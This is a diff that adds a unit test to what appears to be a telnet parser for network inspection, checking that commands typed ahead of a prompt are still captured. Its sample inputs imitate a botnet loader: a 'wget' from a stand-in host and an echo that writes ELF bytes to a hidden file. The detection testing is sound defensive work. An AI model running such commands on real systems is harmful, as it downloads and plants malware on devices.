@@ -72,6 +72,16 @@ def test_commands_typed_ahead_of_the_login_are_the_shells():
     assert transactions[1].buffers["telnet.command"] == [b"wget http://x/y"]
 
 
+def test_lines_typed_far_ahead_are_inspected_not_dropped():
+    # A blind loader types everything at once; past the lines that wait for
+    # a prompt, the rest still reaches telnet.command.
+    lines = [b"true %d" % i for i in range(MAX_QUEUED_LINES)] + [b"echo -ne '\\x7f\\x45' > .d"]
+    parser = TelnetParser()
+    txs = feed_all(parser, [(True, b"".join(line + b"\r\n" for line in lines)), (False, b"\r\n~ # ")])
+    commands = [c for tx in {id(tx): tx for tx in txs}.values() for c in tx.buffers.get("telnet.command", [])]
+    assert sorted(commands) == sorted(lines)
+
+
 def test_a_banner_is_no_shell_when_a_login_prompt_follows():
     parser = TelnetParser()
     txs = feed_all(parser, [(False, b"Welcome\r\nlogin: "), (True, b"admin\r\n"),
